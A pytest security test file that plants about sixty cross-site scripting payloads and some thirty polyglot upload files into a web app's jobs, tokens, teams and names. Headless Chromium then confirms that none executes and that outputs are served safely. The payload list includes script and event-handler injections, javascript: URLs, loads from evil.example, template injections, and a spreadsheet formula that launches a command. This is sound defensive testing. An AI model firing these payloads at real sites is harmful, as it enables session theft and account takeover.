"""What people, programs and AWS write is text wherever it is shown (trust.md S15, S44): sixty payloads stored in every field that
takes them, every page opened in Chromium with JavaScript on. None runs, none becomes an element, and no output is a page of ours."""

import json
import secrets

import pytest
import requests

from test_browser import chromium  # noqa: F401 (fixture)

PAYLOADS = [
    "<script>HIT</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=HIT>", "<img src='x' onerror='HIT'>",
    "\"><script>HIT</script>", "'><script>HIT</script>", "</title><script>HIT</script>", "</textarea><script>HIT</script>",
    "</style><script>HIT</script>", "</script><script>HIT</script>", "--><script>HIT</script>", "]]><script>HIT</script>",
    "<svg onload=HIT>", "<svg><script>HIT</script></svg>", "<svg/onload=HIT//", "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<math><mi//xlink:href=\"data:x,<script>HIT</script>\">", "<body onload=HIT>", "<iframe src=javascript:HIT>",
    "<iframe srcdoc='<script>HIT</script>'>", "<object data=javascript:HIT>", "<embed src=javascript:HIT>",
    "<a href=javascript:HIT>x</a>", "javascript:HIT", "data:text/html,<script>HIT</script>", "vbscript:HIT",
    "<form action=javascript:HIT><button>x", "<button formaction=javascript:HIT>x", "<input autofocus onfocus=HIT>",
    "<select autofocus onfocus=HIT>", "<textarea autofocus onfocus=HIT>", "<details open ontoggle=HIT>", "<video src=x onerror=HIT>",
    "<audio src=x onerror=HIT>", "<video><source onerror=HIT>", "<marquee onstart=HIT>", "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>", "<style>*{background:url(//evil.example)}</style>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<div style=background:url(//evil.example)>", "<x onclick=HIT>x",
    "\" onmouseover=HIT x=\"", "' onmouseover=HIT x='", "` onmouseover=HIT x=`", "\" autofocus onfocus=HIT x=\"",
    "&lt;script&gt;HIT&lt;/script&gt;", "&#60;script&#62;HIT&#60;/script&#62;", "%3Cscript%3EHIT%3C/script%3E",
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e", "{{constructor.constructor('HIT')()}}", "${HIT}", "#{HIT}", "<%= HIT %>",
    "<!--#exec cmd=id-->", "<?php HIT ?>", "<template><script>HIT</script></template>", "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
    "<plaintext>", "\u2028<script>HIT</script>", "\u202e<script>HIT</script>",
]
HIT = "document.documentElement.dataset.hit=1"
TEXTS = [payload.replace("HIT", HIT) for payload in PAYLOADS]
POLYGLOTS = {
    "a.html": "<html><script>SCRIPT</script></html>", "a.htm": "<script>SCRIPT</script>", "a.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'><script>SCRIPT</script></html>",
    "a.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='SCRIPT'><script>SCRIPT</script></svg>", "b.svg": "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>SCRIPT</script></body></foreignObject></svg>",
    "a.xml": "<?xml-stylesheet type='text/xsl' href='a.xsl'?><x/>", "a.xsl": "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><html><script>SCRIPT</script></html></xsl:template></xsl:stylesheet>",
    "html.png": "<html><script>SCRIPT</script></html>", "html.jpeg": "<script>SCRIPT</script>", "html.txt": "<script>SCRIPT</script>",
    "gif.png": "GIF89a/*<script>SCRIPT</script>*/=1;", "a.pdf": "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(SCRIPT)>>>>endobj", "a.mht": "MIME-Version: 1.0\nContent-Type: text/html\n\n<script>SCRIPT</script>",
    "a.ipynb": "{\"cells\":[{\"cell_type\":\"markdown\",\"source\":[\"<script>SCRIPT</script>\"]}]}", "a.js": "SCRIPT", "a.mjs": "SCRIPT", "a.css": "*{background:url(javascript:SCRIPT)}",
    "a.json": "{\"a\":\"<script>SCRIPT</script>\"}", "a.csv": "a,b\n<script>SCRIPT</script>,=cmd|'/c calc'!A0\n", "a.md": "[x](javascript:SCRIPT)<script>SCRIPT</script>",
    "a.swf": "FWS", "a.hta": "<script>SCRIPT</script>", "a.url": "[InternetShortcut]\nURL=javascript:SCRIPT", "a.webmanifest": "{}", "a.vtt": "WEBVTT\n\n<script>SCRIPT</script>",
    "a.shtml": "<!--#exec cmd=\"id\"--><script>SCRIPT</script>", "a": "<html><script>SCRIPT</script>", ".html": "<script>SCRIPT</script>", "utf7.txt": "+ADw-script+AD4-SCRIPT+ADw-/script+AD4-", "bom.txt": "\ufeff<script>SCRIPT</script>",
}


@pytest.fixture(scope="module")
def everywhere(instance):
    """Jobs, uploads, teams, tokens and credentials named by payloads: the paths of all pages that show them."""
    api, member, admin = instance.api(), instance.signed_in(), instance.add_admin("markup-" + secrets.token_hex(4))
    jobs, files = [], {name: text.replace("SCRIPT", HIT) for name, text in POLYGLOTS.items()}
    for start in range(0, len(TEXTS), 6):
        texts = (TEXTS[start:start + 6] + TEXTS)[:6]
        code = (f"import json, os\nfiles = json.loads({json.dumps(json.dumps(files))})\ntexts = json.loads({json.dumps(json.dumps(texts))})\n"
                "for n, t in enumerate(texts):\n    print(t)\n    open('output/' + t.replace('/', '_').replace('\\\\', '_')[:80] + f'.{n}.csv', 'w').write('a,' + t + '\\n' + t + ',b\\n')\n"
                "for name, text in files.items():\n    open('output/' + name, 'w').write(text)\n"
                "json.dump(texts, open(os.environ['BATCHPORT_RESULT'], 'w'))\n")
        clean = [text for text in texts if "\u2028" not in text and "\u202e" not in text] or ["x"]
        job = api.job(code, env={f"V{n}": text for n, text in enumerate(clean)}, name=clean[0][:100],
                      tags={text[:100]: text[:200] for text in clean if all(c.isalnum() or c in " +-=._:/@" for c in text)})
        answer = api.submit(job)
        assert answer.status_code == 201, answer.text
        jobs.append(answer.json()["jobUUID"])
        member.post("/tokens", member.form("/tokens") | {"name": texts[1][:100], "scopes": "jobs:read"})
        admin.act("/admin/teams", "/admin/teams", name=texts[2][:60])
        admin.act("/admin/people/invite", "/admin/people", email=secrets.token_hex(4) + "@example.org", name=texts[3][:100], role="member")
    for job in jobs:
        assert api.wait(job)["displayStatus"] == "Succeeded", api.log(job)
    member.post("/settings/name", member.form("/settings", "/settings/name") | {"name": TEXTS[2]})
    pages = ["/jobs", "/tokens", "/settings", "/credentials", "/environments", "/jobs?q=" + requests.utils.quote(TEXTS[0])]
    for job in jobs:
        pages += [f"/jobs/{job}{part}" for part in ("", "/log", "/log?q=" + requests.utils.quote(TEXTS[1]), "/outputs", "/abort", "/delete")]
        pages.append(f"/jobs/new?from={job}")
    yield {"member": pages, "admin": ["/admin/people", "/admin/teams", "/admin/audit", "/jobs"]}, jobs, admin
    member.post("/settings/name", member.form("/settings", "/settings/name") | {"name": "Member"})
    instance.sql("DELETE FROM teams WHERE name LIKE '%documentElement%' OR name LIKE '%<%'")


LOOK = """() => {
    const wrong = [];
    if (document.documentElement.dataset.hit) wrong.push('a payload ran');
    for (const e of document.querySelectorAll('*')) {
        for (const a of e.attributes) {
            if (a.name.startsWith('on')) wrong.push(`${e.tagName} has ${a.name}`);
            if (a.name === 'style') wrong.push(`${e.tagName} has a style`);
            if (['href', 'src', 'action', 'formaction'].includes(a.name) && /^\\s*(javascript|vbscript|data:text)/i.test(a.value)) wrong.push(`${e.tagName} leads to ${a.value}`);
        }
        if (e.tagName === 'SCRIPT' && !(e.src.startsWith(location.origin + '/assets/'))) wrong.push('a script of its own');
        if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'MARQUEE', 'PLAINTEXT', 'FRAME', 'X'].includes(e.tagName)) wrong.push('an element ' + e.tagName);
    }
    return wrong;
}"""


def test_no_payload_is_more_than_text(everywhere, chromium, instance):  # noqa: F811
    pages, _, admin = everywhere
    context = chromium.new_context(base_url=instance.url)
    page, wrong, asked = context.new_page(), [], []
    page.on("dialog", lambda dialog: wrong.append("a dialog") or dialog.dismiss())
    page.on("request", lambda request: asked.append(request.url))
    for who, paths in pages.items():
        email, password = ((admin.email, admin.password) if who == "admin" else
                           (instance.demo["member"]["email"], instance.demo["member"]["password"]))
        context.clear_cookies()
        page.goto("/sign-in")
        page.get_by_label("E-mail address").fill(email)
        page.get_by_label("Password").fill(password)
        page.get_by_role("button", name="Sign in").click()
        if who == "admin":
            page.get_by_label("Code").fill(admin.recovery_codes.pop())
            page.get_by_role("button", name="Sign in").click()
        page.wait_for_url("**/jobs")
        for path in paths:
            answer = page.goto(path)
            assert answer.status in (200, 400, 403, 409), f"{path}: {answer.status}"
            wrong += [f"{path}: {fault}" for fault in page.evaluate(LOOK)]
    context.close()
    assert len(PAYLOADS) >= 60 and not wrong, "\n".join(wrong)
    strange = [url for url in asked if not url.startswith((instance.url, "data:", "http://127.0.0.2"))]
    assert not strange, strange


def test_no_output_is_a_page_of_ours(everywhere, api, instance):
    """Each link leads to another origin, to be saved, as bytes or as one of four types that run nothing by themselves."""
    _, jobs, _ = everywhere
    outputs, wrong = api.outputs(jobs[0]), []
    assert set(POLYGLOTS) <= set(outputs) and len(POLYGLOTS) >= 30
    for name in POLYGLOTS:
        found = api.get(f"/jobs/{jobs[0]}/outputs/" + requests.utils.quote(name))
        there = requests.get(found.headers["Location"], timeout=60)
        kind = there.headers["Content-Type"].split(";")[0]
        if found.headers["Location"].startswith(instance.url) or there.status_code != 200:
            wrong.append(f"{name}: {found.headers['Location']}")
        if not there.headers["Content-Disposition"].startswith("attachment") or "Set-Cookie" in there.headers:
            wrong.append(f"{name}: {there.headers}")
        if kind not in ("application/octet-stream", "image/png", "image/jpeg", "image/svg+xml", "text/plain"):
            wrong.append(f"{name}: {kind}")
    assert not wrong, "\n".join(wrong)


def test_a_payload_would_be_seen(chromium, instance):  # noqa: F811
    """The test itself: where one is markup, that is found."""
    page = chromium.new_context(base_url=instance.url).new_page()
    page.route("**/broken", lambda route: route.fulfill(content_type="text/html", body="<body>" + "".join(TEXTS[:48])))
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.goto("/broken")
    found = " ".join(page.evaluate(LOOK))
    for fault in ["a payload ran", "has onerror", "an element IFRAME", "leads to javascript"]:
        assert fault in found, found
    page.context.close()
